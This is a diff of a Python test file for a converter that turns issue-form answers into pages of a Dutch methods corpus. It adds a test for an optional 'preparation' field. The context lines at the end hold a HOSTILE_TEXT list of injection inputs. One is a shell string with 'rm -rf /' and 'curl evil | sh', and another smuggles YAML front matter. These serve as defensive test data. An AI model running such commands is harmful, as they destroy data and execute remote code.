@@ -168,6 +168,22 @@ def test_accents_and_lists_survive(root, corpus):
     assert "1. Iedereen vertelt kort een ervaring" in page.body
 
 
+def test_preparation_is_optional_and_becomes_a_list(root, corpus):
+    """#16: the method form asks 'Voorbereiding' (not required); lines become the list, no answer no key."""
+    (field,) = [f for f in forms.fields("method", corpus) if f.key == "preparation"]
+    assert (field.label, field.kind, field.required) == ("Voorbereiding", "textarea", False)
+    answers = realistic("method", corpus)
+    outcome = from_issue.convert(root, event("method", corpus, answers), TODAY)
+    assert outcome.ok, outcome.comment
+    assert "preparation" not in load_corpus(root).get(Path(outcome.path).stem).meta
+    answers = {**answers, "title": "Ronde van ervaringen met voorbereiding",
+               "preparation": "- De begeleider regelt een rustige ruimte.\n- Iedereen denkt vooraf aan een voorval."}
+    outcome = from_issue.convert(root, event("method", corpus, answers, number=43), TODAY)
+    assert outcome.ok, outcome.comment
+    page = load_corpus(root).get(Path(outcome.path).stem)
+    assert page.meta["preparation"] == ["De begeleider regelt een rustige ruimte.", "Iedereen denkt vooraf aan een voorval."]
+
+
 HOSTILE_TEXT = [
     "$(rm -rf /) `id` ; echo pwned > /tmp/x && curl evil | sh",
     "---\ntitle: gekaapt\nstatus: draft\n---",
